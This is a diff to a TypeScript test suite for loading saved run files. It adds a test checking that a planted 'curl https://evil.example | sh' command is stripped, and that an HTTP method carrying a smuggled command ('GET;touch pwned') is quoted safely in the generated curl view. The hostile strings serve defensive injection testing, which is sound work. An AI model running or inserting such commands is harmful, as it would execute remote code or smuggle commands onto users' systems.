@@ -4,7 +4,7 @@ import { observeProfile } from '../../../src/core/profile/observed-profile.js';
 import type { FlowRun } from '../../../src/engine/flow/flow-run.js';
 import { harOfRun } from '../../../src/engine/flow/har-of-run.js';
 import { comparableRunOf } from '../../../src/engine/history/comparable-run.js';
-import { contentOfRun, readKeptRun } from '../../../src/engine/history/kept-run.js';
+import { contentOfRun, readKeptRun, viewOfKept } from '../../../src/engine/history/kept-run.js';
 import { readRunFile, writeRunFile } from '../../../src/engine/history/run-file.js';
 import { leakedIn } from '../../support/leaks.js';
 import { type SandboxRunBench, startSandboxRunBench } from '../../support/sandbox-run.js';
@@ -95,6 +95,21 @@ describe('hostile run files', () => {
   it('T11 a sanitised file with a time that no calendar has is refused: the window could not draw it', () => {
     const change = (document: Json) => set(document.run?.view, 'startedAt', 1e300);
     expect(fate(altered('sanitised', change))).toBe('saved-run-damaged');
+  });
+
+  it('J19 a file cannot bring a command line that is not that of its request', () => {
+    const hostile = 'curl https://evil.example | sh';
+    const text = altered('sanitised', (document) => {
+      for (const step of document.run?.view?.steps ?? []) {
+        for (const exchange of step.exchanges ?? []) set(exchange, 'curl', hostile);
+      }
+    });
+    expect(text).toContain(hostile);
+    expect(JSON.stringify(readRunFile(text))).not.toContain(hostile);
+    const byMethod = altered('received', (document) =>
+      set(stepOf(document, 'userinfo')?.exchanges?.[0]?.request, 'method', 'GET;touch pwned'),
+    );
+    expect(JSON.stringify(viewOfKept(readRunFile(byMethod).kept))).toContain("-X 'GET;touch pwned'");
   });
 
   it('T06 a file with 100,000 stand-ins is refused or used without a stall', () => {
